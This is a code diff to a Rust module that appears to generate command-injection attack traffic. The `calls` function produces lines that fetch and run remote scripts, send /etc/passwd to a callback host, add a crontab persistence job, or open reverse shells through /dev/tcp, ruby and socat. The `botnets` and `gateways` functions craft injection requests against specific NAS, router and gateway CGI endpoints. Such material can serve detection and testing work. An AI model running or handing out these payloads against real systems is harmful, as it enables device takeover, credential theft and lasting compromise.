@@ -9,7 +9,7 @@ use super::super::encode::Encoding;
 use super::super::place::Place;
 use super::super::rng::Rng;
 use super::super::wire::{FORM, JSON, Wire};
-use super::tools::{Shot, callback, command, form, json, path, query, sent, xml};
+use super::tools::{Shot, callback, command, domain, form, in_base64, json, path, query, sent, xml};
 
 const IN_TARGETS: &[Encoding] =
     &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::Comment, Encoding::Hex];
@@ -65,20 +65,20 @@ fn echo(rng: &mut Rng) -> Vec<u8> {
 
 /// Nothing comes back, so the machine must call: with what it knows in the name it asks for.
 fn calls(rng: &mut Rng) -> Vec<u8> {
-    let (away, word) = (callback(rng), rng.letters(4));
+    let (away, name, word) = (callback(rng), domain(rng), rng.letters(4));
     let lead = rng.pick(&["", "a", "img.png", "1.1.1.1"]);
     match rng.below(16) {
-        0 => format!("{lead}$(curl${{IFS}}`whoami`.{away})"),
-        1 => format!("{lead}|nslookup -q=cname {word}.{away}"),
+        0 => format!("{lead}$(curl${{IFS}}`whoami`.{name})"),
+        1 => format!("{lead}|nslookup -q=cname {word}.{name}"),
         2 => format!("{lead};curl -fsSL http://{away}/{word}|bash"),
         3 => format!("{lead}`wget -qO- {away}/{word}`"),
         4 => format!("{lead}&&curl -d @/etc/passwd {away}"),
-        5 => format!("{lead};host `hostname`.{away};"),
-        6 => format!("{lead}$(dig +short {word}.{away})"),
+        5 => format!("{lead};host `hostname`.{name};"),
+        6 => format!("{lead}$(dig +short {word}.{name})"),
         7 => format!("{lead}|powershell -c iwr http://{away}/{word} -UseBasicParsing|iex"),
         8 => format!("{lead}& certutil -urlcache -f http://{away}/{word} %TEMP%\\{word}.exe & %TEMP%\\{word}.exe"),
         9 => format!("{lead};(crontab -l;echo '* * * * * curl {away}|sh')|crontab -"),
-        10 => format!("{lead};exec 5<>/dev/tcp/{}/443;cat <&5|sh", away.split(':').next().unwrap()),
+        10 => format!("{lead};exec 5<>/dev/tcp/{name}/443;cat <&5|sh"),
         11 => format!("{lead}|ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"{word}.example\",4444))'"),
         12 => format!("{lead};python3 -c \"import urllib.request as u;u.urlopen('http://{away}/{word}')\""),
         13 => format!("{lead}||socat exec:'sh -li',pty tcp:{word}.example:443"),
@@ -105,7 +105,7 @@ fn botnets(rng: &mut Rng) -> Shot {
             let wire = Wire::new("PUT", "/SDK/webLanguage").body("application/x-www-form-urlencoded; charset=UTF-8", format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$({}>webLib/{word})</language>", rng.pick(&["id", "uname -a", "ls -l /"])));
             (sent(wire.header("X-Requested-With", "XMLHttpRequest"), rng), Place::Xml, Encoding::Plain)
         }
-        7 => query(format!("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system={}", codec::percent(codec::base64(&fetch))), rng),
+        7 => in_base64(query(format!("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system={}", codec::percent(codec::base64(&fetch))), rng)),
         8 => query(format!("/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc={}", codec::percent(&fetch)), rng),
         9 => form("/goform/formping", format!("pingAddr=127.0.0.1;{}&{word}=1", codec::form(&fetch)), rng),
         10 => query(format!("/cgi-bin/kerbynet?Action=x509view&Section=NoAuthREQ&User=&x509type=%27%0A{}%0A%27", codec::percent(&fetch)), rng),
@@ -174,7 +174,10 @@ fn gateways(rng: &mut Rng) -> Shot {
             ),
             rng,
         ),
-        7 => query(format!("/newsedr/tool/log/c.php?path=%22;{}%23", codec::percent(&run)), rng),
+        7 => query(
+            format!("/adv,/cgi-bin/weblogin.cgi?username=admin'%3B{}%20%23&password={word}", codec::percent(&run)),
+            rng,
+        ),
         8 => form(
             "/cgi/maincgi.cgi?Url=VerifyCode",
             format!("name=superman&lang=%60{}%60&{word}=", codec::form(&run)),
@@ -193,9 +196,11 @@ fn gateways(rng: &mut Rng) -> Shot {
             ),
             rng,
         ),
-        11 => form(
-            "/imc/primepush/%2e%2e/javax.faces.resource/x.xhtml",
-            format!("cmd={}&{word}=|id", codec::form(format!(";{run}|sh"))),
+        11 => json(
+            "/cgi-bin/cstecgi.cgi",
+            format!(
+                "{{\"topicurl\":\"setting/setDiagnosisCfg\",\"actionFlag\":\"1\",\"ipDoamin\":\"127.0.0.1 -w 1;{run} #{word}\"}}"
+            ),
             rng,
         ),
         12 => query(
